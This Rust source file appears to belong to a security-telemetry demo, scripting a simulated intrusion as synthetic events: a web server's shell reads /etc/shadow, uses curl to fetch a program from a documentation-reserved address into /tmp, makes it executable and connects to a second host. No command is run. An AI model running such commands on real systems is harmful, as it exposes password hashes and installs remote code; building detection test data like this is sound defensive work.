//! A small intrusion for the fleet to play, so that a demo has something true to find.
//!
//! ```text
//! host 0, frontend   nginx ─ sh ─┬─ id
//!                                ├─ cat /etc/shadow
//!                                ├─ curl: a program from outside into /tmp
//!                                ├─ chmod
//!                                └─ /tmp/update ── connection ──▶ host 1, api, another region
//! ```
//!
//! Every event of it is simulated as all of the fleet's are: the program comes from an address that is set aside for documents.

use std::sync::Arc;

use weir_schema::{Event, Fields, Kind, Process};

use super::{Fleet, SECOND_NS};

/// From its first event to its last.
pub const INTRUSION_LASTS_NS: i64 = 20 * SECOND_NS;

/// Who does something: a process in the first actor of the first host.
struct Script<'a> {
    fleet: &'a mut Fleet,
    begin_ns: i64,
    events: Vec<(usize, Event)>,
}

const VICTIM: usize = 0;
const NEXT: usize = 1;
const ACTOR: usize = 0;
const OUTSIDE: &str = "203.0.113.66";
const IMPLANT: &str = "/tmp/update";

impl Fleet {
    /// Plays the intrusion once, from this time on. With fewer than two hosts there is nowhere to go on to, and nothing is played.
    pub fn intrude(&mut self, begin_ns: i64) {
        if self.hosts.len() < 2 {
            return;
        }
        let mut script = Script { fleet: self, begin_ns, events: Vec::new() };
        script.write();
        let mut events = script.events;
        events.sort_by_key(|(host, event)| (event.time, *host));
        self.script = events.into();
    }

    /// Tells what of the script is due.
    pub(super) fn play(&mut self, now_ns: i64, tell: &mut impl FnMut(usize, Event)) {
        while let Some((host, event)) = self.script.pop_front_if(|(_, event)| event.time <= now_ns) {
            let is_clients = event.fields.direction.as_ref() == Some(&self.texts.outward);
            match event.kind {
                Kind::Connect => {
                    self.books.connections += 1;
                    self.books.open += 1;
                }
                Kind::Close if is_clients => self.books.open -= 1,
                _ => {}
            }
            self.books.events += 1;
            tell(host, event);
        }
    }
}

impl Script<'_> {
    fn write(&mut self) {
        let server = Arc::clone(&self.fleet.hosts[VICTIM].actors[ACTOR].process);
        let shell = self.start(0, &server, "/bin/sh", "sh -c id; exec sh");

        let id = self.start(200, &shell, "/usr/bin/id", "id");
        self.exit(205, &id);

        let cat = self.start(1_000, &shell, "/bin/cat", "cat /etc/shadow");
        self.open(1_002, &cat, "/etc/shadow", 0o100_000);
        self.exit(1_010, &cat);

        let curl = self.start(3_000, &shell, "/usr/bin/curl", &format!("curl -s -o {IMPLANT} http://{OUTSIDE}/update"));
        self.fetch(3_020, &curl);
        self.open(3_200, &curl, IMPLANT, 0o101_101);
        self.tell(3_210, &curl, Kind::Write, Fields { path: Some(IMPLANT.into()), result: Some(65_536), ..Fields::default() });
        self.exit(3_910, &curl);

        let chmod = self.start(4_500, &shell, "/bin/chmod", &format!("chmod +x {IMPLANT}"));
        let mode = Fields { path: Some(IMPLANT.into()), mode: Some(0o755), result: Some(0), ..Fields::default() };
        self.tell(4_502, &chmod, Kind::Chmod, mode);
        self.exit(4_510, &chmod);

        let implant = self.start(5_000, &shell, IMPLANT, IMPLANT);
        self.go_on(6_000, 19_000, &implant);
        self.exit(19_500, &implant);
        self.exit(20_000, &shell);
    }

    fn at(&self, after_ms: i64) -> i64 {
        self.begin_ns + after_ms * 1_000_000
    }

    fn tell(&mut self, after_ms: i64, process: &Arc<Process>, kind: Kind, fields: Fields) {
        let container = Some(Arc::clone(&self.fleet.hosts[VICTIM].actors[ACTOR].container));
        let event = Event { time: self.at(after_ms), kind, process: Some(Arc::clone(process)), container, fields };
        self.events.push((VICTIM, event));
    }

    /// A process begins, and runs a program.
    fn start(&mut self, after_ms: i64, parent: &Process, exe: &str, cmdline: &str) -> Arc<Process> {
        let above: Vec<&str> =
            parent.ancestors.as_deref().map_or_else(Vec::new, |known| known.trim_matches(['[', ']']).split(',').collect());
        let own = format!("{:?}", parent.exe.as_deref().unwrap_or_default());
        let ancestors = std::iter::once(own.as_str()).chain(above).collect::<Vec<_>>().join(",");
        let process = Arc::new(Process {
            pid: self.fleet.hosts[VICTIM].next_pid(),
            start_ns: self.at(after_ms) as u64,
            ppid: Some(parent.pid),
            parent_start_ns: Some(parent.start_ns),
            exe: Some(exe.into()),
            comm: exe.rsplit('/').next().map(Into::into),
            cmdline: Some(cmdline.into()),
            uid: parent.uid,
            parent_exe: parent.exe.clone(),
            parent_cmdline: parent.cmdline.clone(),
            ancestors: Some(format!("[{ancestors}]").into()),
            net_ns: parent.net_ns,
            cgroup: parent.cgroup.clone(),
            ..Process::default()
        });
        self.tell(after_ms, &process, Kind::Exec, Fields { path: Some(exe.into()), result: Some(0), ..Fields::default() });
        process
    }

    fn exit(&mut self, after_ms: i64, process: &Arc<Process>) {
        let life_ms = (self.at(after_ms) as u64).saturating_sub(process.start_ns) / 1_000_000;
        let fields = Fields { exit_code: Some(0), duration_ms: Some(life_ms), ..Fields::default() };
        self.tell(after_ms, process, Kind::Exit, fields);
    }

    fn open(&mut self, after_ms: i64, process: &Arc<Process>, path: &str, flags: u32) {
        let fields = Fields { path: Some(path.into()), flags: Some(flags), result: Some(0), ..Fields::default() };
        self.tell(after_ms, process, Kind::Open, fields);
    }

    /// A connection of the first host; both ends' sequence numbers with it.
    fn connection(&mut self, to: &str, port: u16) -> Fields {
        let isns = (self.fleet.random.next() as u32, self.fleet.random.next() as u32);
        let host = &mut self.fleet.hosts[VICTIM];
        host.sockets += 1;
        Fields {
            src_ip: Some(host.address.clone()),
            src_port: Some(host.next_port()),
            dst_ip: Some(to.into()),
            dst_port: Some(port),
            proto: Some(self.fleet.texts.tcp.clone()),
            direction: Some(self.fleet.texts.outward.clone()),
            socket_id: Some(host.sockets),
            isn_local: Some(isns.0),
            isn_peer: Some(isns.1),
            result: Some(0),
            ..Fields::default()
        }
    }

    /// The program comes from outside.
    fn fetch(&mut self, after_ms: i64, process: &Arc<Process>) {
        let seen = self.connection(OUTSIDE, 80);
        self.tell(after_ms, process, Kind::Connect, seen.clone());
        self.tell(after_ms + 880, process, Kind::Close, closed(seen, 120, 1_400_000, 880));
    }

    /// A connection to the next host, which sees its own end of it.
    fn go_on(&mut self, after_ms: i64, until_ms: i64, process: &Arc<Process>) {
        let (host, life_ms) = (&mut self.fleet.hosts[NEXT], (until_ms - after_ms) as u64);
        host.sockets += 1;
        let (address, socket, server) = (host.address.clone(), host.sockets, host.actors[ACTOR].clone());
        let seen = self.connection(&address, server.habits.port);
        let other = Fields {
            direction: Some(self.fleet.texts.inward.clone()),
            socket_id: Some(socket),
            isn_local: seen.isn_peer,
            isn_peer: seen.isn_local,
            ..seen.clone()
        };
        self.tell(after_ms, process, Kind::Connect, seen.clone());
        self.tell(until_ms, process, Kind::Close, closed(seen, 6_800_000, 42_000, life_ms));
        let told = [
            (after_ms + 80, Kind::Accept, other.clone()),
            (until_ms + 80, Kind::Close, closed(other, 42_000, 6_800_000, life_ms)),
        ];
        for (after_ms, kind, fields) in told {
            let (process, container) = (Some(Arc::clone(&server.process)), Some(Arc::clone(&server.container)));
            self.events.push((NEXT, Event { time: self.at(after_ms), kind, process, container, fields }));
        }
    }
}

fn closed(seen: Fields, sent: u64, received: u64, life_ms: u64) -> Fields {
    Fields { bytes_sent: Some(sent), bytes_received: Some(received), duration_ms: Some(life_ms), ..seen }
}
